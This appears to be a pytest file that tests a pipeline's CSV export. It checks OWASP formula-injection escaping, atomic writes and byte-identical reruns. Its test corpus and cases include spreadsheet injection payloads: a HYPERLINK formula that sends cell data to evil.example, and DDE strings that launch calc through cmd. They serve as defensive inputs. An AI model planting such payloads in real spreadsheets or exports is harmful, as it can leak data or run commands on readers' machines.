"""Export: OWASP-escaped, fully quoted CSVs written atomically; texts byte for byte; reruns identical.

The NLP is replaced by a fake analyzer (one ARREST per line holding "arrested").
"""
from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pandas as pd
import pytest

from pipeline import export, run
from pipeline.export import AtomicCSV, neutralize, unneutralize
from pipeline.schema import EVENT_COLUMNS, PEOPLE_COLUMNS, Event

FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")


class FakeAnalyzer:
    """One ARREST per line with "arrested"; the target is what precedes "arrested"."""

    def analyze(self, doc):
        events, start = [], 0
        for line in doc.text.split("\n"):
            if " arrested" in line:
                events.append(Event(
                    doc_id=doc.doc_id, event_type="ARREST", target=line.split(" arrested")[0].strip(),
                    target_type="PERSON", evidence=line, char_start=start, char_end=start + len(line),
                    sentence="P5Y", amount="-5", target_count="+3", date="2019-05", rule_ids=["fake"]))
            start += len(line) + 1
        return events


@pytest.fixture(autouse=True)
def fake_analyzer(monkeypatch):
    monkeypatch.setattr(run, "_ANALYZER", FakeAnalyzer())


DOCS = {
    "plain.txt": "Police arrested Maks Bokaev in Atyrau.\nNothing else happened.\n",
    "formulas.txt": (
        '=HYPERLINK("http://evil.example/?x="&A1,"click") arrested in Almaty.\n'
        "+cmd|' /C calc'!A0 arrested too.\n"
        "-2+3 arrested in a minus cell.\n"
        "@SUM(1+1)*cmd|' /C calc'!A0 arrested at once.\n"
        "\tTabbed police arrested someone.\n"
        '=1+2";=1+2 arrested with a quote.\n'
    ),
    "notes.md": "# Heading\n\n- A bullet: police arrested Talgat Ayan.\n",
}


def _corpus(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, text in DOCS.items():
        (root / name).write_text(text, encoding="utf-8", newline="")
    return root


def _snapshot(out: Path) -> dict[str, bytes]:
    """The outputs as a reader sees them (OUT/events.csv, ..., OUT/texts/*), through the `current` link."""
    names = [n for n in ("events.csv", "people.csv", "run_log.csv", "report.html", "events.xlsx") if (out / n).is_file()]
    names += [f"texts/{p.name}" for p in sorted((out / "texts").glob("*"))] if (out / "texts").is_dir() else []
    return {n: (out / n).read_bytes() for n in names}


def _leftover_temps(out: Path) -> list[Path]:
    return [p for p in out.rglob("*") if p.name.endswith(".tmp")]


# --------------------------------------------------------------------------- neutralize

@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"),
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-cmd", "'-cmd"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("-P5Y", "'-P5Y"),
    ("- A bullet", "'- A bullet"),
    # left alone
    ("-5", "-5"),
    ("-3.25", "-3.25"),
    ("+7", "+7"),
    ("-1,000", "-1,000"),
    ("-1e5", "-1e5"),
    ("P5Y", "P5Y"),
    ("P7Y6M", "P7Y6M"),
    ("2019-05", "2019-05"),
    ("", ""),
    ("Maks Bokaev", "Maks Bokaev"),
    ("a=1", "a=1"),
    ("'=already", "'=already"),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected
    if value[:1] != "'":
        assert unneutralize(neutralize(value)) == value


@pytest.mark.parametrize("value, line", [
    # OWASP's own examples: single quote in front, double quotes doubled, cell wrapped in quotes.
    ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
    ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
    ("plain; with = inside", '"plain; with = inside"'),
    ("-5", '"-5"'),
])
def test_owasp_cell_encoding(tmp_path, value, line):
    with AtomicCSV(tmp_path / "x.csv", ("a",)) as f:
        f.write({"a": value})
    assert (tmp_path / "x.csv").read_bytes() == f'"a"\r\n{line}\r\n'.encode()


# --------------------------------------------------------------------------- atomic files

def test_atomic_csv_appears_only_on_close(tmp_path):
    target = tmp_path / "events.csv"
    f = AtomicCSV(target, ("a", "b"))
    f.write({"a": "1", "b": None})
    assert not target.exists() and len(_leftover_temps(tmp_path)) == 1
    f.close()
    assert target.read_bytes() == b'"a","b"\r\n"1",""\r\n'
    assert _leftover_temps(tmp_path) == []


def test_atomic_csv_abort_keeps_the_old_file(tmp_path):
    target = tmp_path / "events.csv"
    target.write_bytes(b"old")
    with pytest.raises(RuntimeError):
        with AtomicCSV(target, ("a",)) as f:
            f.write({"a": "new"})
            raise RuntimeError("mid-write")
    assert target.read_bytes() == b"old"
    assert _leftover_temps(tmp_path) == []


def test_outputs_have_normal_permissions(tmp_path):
    umask = os.umask(0o022)
    os.umask(umask)
    with AtomicCSV(tmp_path / "a.csv", ("a",)):
        pass
    export.write_text(tmp_path, "d", "x")
    for p in (tmp_path / "a.csv", tmp_path / "texts" / "d.txt"):
        assert p.stat().st_mode & 0o777 == 0o666 & ~umask


@pytest.mark.parametrize("text", [
    "line one\nline two\n",
    "no final newline",
    "Суд приговорил\tактивиста «Бокаева».\n",
    "keeps\r\nwhatever\rit is given\u2028",
    "",
])
def test_write_text_is_byte_identical(tmp_path, text):
    export.write_text(tmp_path, "doc", text)
    assert (tmp_path / "texts" / "doc.txt").read_bytes() == text.encode("utf-8")
    assert _leftover_temps(tmp_path) == []


# --------------------------------------------------------------------------- events.csv end to end

def test_events_csv_columns_escaping_and_offsets(tmp_path):
    out = tmp_path / "out"
    assert run.extract([str(_corpus(tmp_path / "in"))], out, workers=1, quiet=True) == 0
    path = out / "events.csv"

    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(df.columns) == EVENT_COLUMNS
    assert tuple(rows[0]) == EVENT_COLUMNS
    # 8 lines hold "arrested"; the one whose target is "-2+3" (half of a compound) is dropped (issue 11)
    assert len(df) == len(rows) - 1 == 7
    assert df.values.tolist() == rows[1:]          # pandas and csv read the same cells

    for row in rows[1:]:
        assert len(row) == len(EVENT_COLUMNS)
        for cell in row:
            assert not cell.startswith(FORMULA_LEAD) or cell in ("-5", "+3"), cell
        rec = dict(zip(EVENT_COLUMNS, row))
        text = (out / "texts" / f"{rec['doc_id']}.txt").read_bytes().decode("utf-8")
        start, end = int(rec["char_start"]), int(rec["char_end"])
        assert text[start:end] == unneutralize(rec["evidence"])
        assert (rec["sentence"], rec["amount"], rec["target_count"], rec["date"]) == ("P5Y", "-5", "+3", "2019-05")

    evidence = {r[EVENT_COLUMNS.index("evidence")] for r in rows[1:]}
    assert "'=1+2\";=1+2 arrested with a quote." in evidence
    assert "'\tTabbed police arrested someone." in evidence
    assert "'- A bullet: police arrested Talgat Ayan." in evidence
    assert "Police arrested Maks Bokaev in Atyrau." in evidence
    # numeric columns still read as numbers
    assert pd.read_csv(path)["char_start"].dtype.kind == "i"


def test_people_and_run_log_are_escaped_too(tmp_path):
    out = tmp_path / "out"
    run.extract([str(_corpus(tmp_path / "in"))], out, workers=1, quiet=True)
    for name, columns in (("people.csv", PEOPLE_COLUMNS), ("run_log.csv", export.RUN_LOG_COLUMNS)):
        with open(out / name, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert tuple(rows[0]) == columns
        for row in rows[1:]:
            assert not any(c.startswith(FORMULA_LEAD) for c in row), row
    people = pd.read_csv(out / "people.csv", dtype=str, keep_default_na=False)
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in set(people["person"])


def test_rerun_is_byte_identical(tmp_path):
    corpus = str(_corpus(tmp_path / "in"))
    (tmp_path / "in" / "empty.txt").write_bytes(b"")
    first, second = tmp_path / "out1", tmp_path / "out2"
    assert run.extract([corpus], first, workers=1, quiet=True) == 1
    snap = _snapshot(first)
    assert set(snap) == {"events.csv", "people.csv", "run_log.csv", "report.html", "events.xlsx",
                         "texts/formulas.txt", "texts/notes.txt", "texts/plain.txt"}
    assert run.extract([corpus], second, workers=1, quiet=False) == 1
    assert _snapshot(second) == snap
    assert run.extract([corpus], first, workers=1, quiet=True, use_cache=False) == 1   # over its own output
    assert _snapshot(first) == snap
    # from OUT/cache (issue 10): the same bytes, but the run log says `cached`
    assert run.extract([corpus], first, workers=1, quiet=True) == 1
    cached = _snapshot(first)
    assert cached["run_log.csv"] == snap["run_log.csv"].replace(b'"ok","",', b'"ok","cached",')
    # events.xlsx holds the run log as a sheet, so it differs with it
    assert {**cached, "run_log.csv": b"", "events.xlsx": b""} == {**snap, "run_log.csv": b"", "events.xlsx": b""}


@pytest.mark.parametrize("excel", [False, True])
def test_excel_flag_writes_a_bom_on_csvs_only(tmp_path, excel):
    out = tmp_path / "out"
    run.extract([str(_corpus(tmp_path / "in"))], out, workers=1, quiet=True, excel=excel)
    for name in ("events.csv", "people.csv", "run_log.csv"):
        data = (out / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") is excel
        assert data.count(b"\xef\xbb\xbf") == int(excel)
    assert not (out / "texts" / "plain.txt").read_bytes().startswith(b"\xef\xbb\xbf")
    df = pd.read_csv(out / "events.csv", encoding="utf-8-sig" if excel else "utf-8")
    assert tuple(df.columns) == EVENT_COLUMNS


# --------------------------------------------------------------------------- a run that dies

class _Boom(Exception):
    pass


def _fail_write_text(monkeypatch):
    real, calls = export.write_text, []

    def write_text(out_dir, doc_id, text):
        calls.append(doc_id)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real(out_dir, doc_id, text)
    monkeypatch.setattr(export, "write_text", write_text)
    return OSError


def _interrupt_analyzer(monkeypatch):
    class Interrupted(FakeAnalyzer):
        def analyze(self, doc):
            if doc.doc_id == "notes":
                raise KeyboardInterrupt
            return super().analyze(doc)
    monkeypatch.setattr(run, "_ANALYZER", Interrupted())
    return KeyboardInterrupt


def _fail_people(monkeypatch):
    def rows(self):
        raise _Boom("people exploded")
    monkeypatch.setattr(run.People, "rows", rows)
    return _Boom


@pytest.mark.parametrize("fault", [_fail_write_text, _interrupt_analyzer, _fail_people])
@pytest.mark.parametrize("earlier_run", [False, True])
def test_a_run_that_dies_leaves_no_half_written_output(tmp_path, monkeypatch, fault, earlier_run):
    corpus, out = str(_corpus(tmp_path / "in")), tmp_path / "out"
    if earlier_run:   # on a smaller corpus, so that its outputs differ from the new run's
        (tmp_path / "in" / "notes.md").rename(tmp_path / "notes.md")
        assert run.extract([corpus], out, workers=1, quiet=True) == 0
        (tmp_path / "notes.md").rename(tmp_path / "in" / "notes.md")
    before = _snapshot(out) if out.exists() else {}
    error = fault(monkeypatch)
    if error is OSError:       # an output error: exit 2 with one line (issue 11)
        assert run.extract([corpus], out, workers=1, quiet=True) == 2
    else:
        with pytest.raises(error):
            run.extract([corpus], out, workers=1, quiet=True)
    after = _snapshot(out) if out.exists() else {}
    assert _leftover_temps(out) == [] if out.exists() else True
    assert after == before             # CSVs and texts exactly as they were: the old ones, or none (issue 11)
    published = {(out / "current").resolve()} if (out / "current").is_symlink() else set()
    assert {d.resolve() for d in (out / ".runs").iterdir()} == published   # no staging folder left


def test_csv_module_and_pandas_agree_on_awkward_cells(tmp_path):
    awkward = ['a "quoted" word', "comma, inside", "new\nline", "semi;colon", "=1+2", "", "-5", "  spaced  "]
    with AtomicCSV(tmp_path / "x.csv", ("v",)) as f:
        for v in awkward:
            f.write({"v": v})
    got_csv = [unneutralize(r[0]) for r in csv.reader(io.StringIO((tmp_path / "x.csv").read_text(), newline=""))][1:]
    got_pd = [unneutralize(v) for v in pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False)["v"]]
    assert got_csv == got_pd == awkward
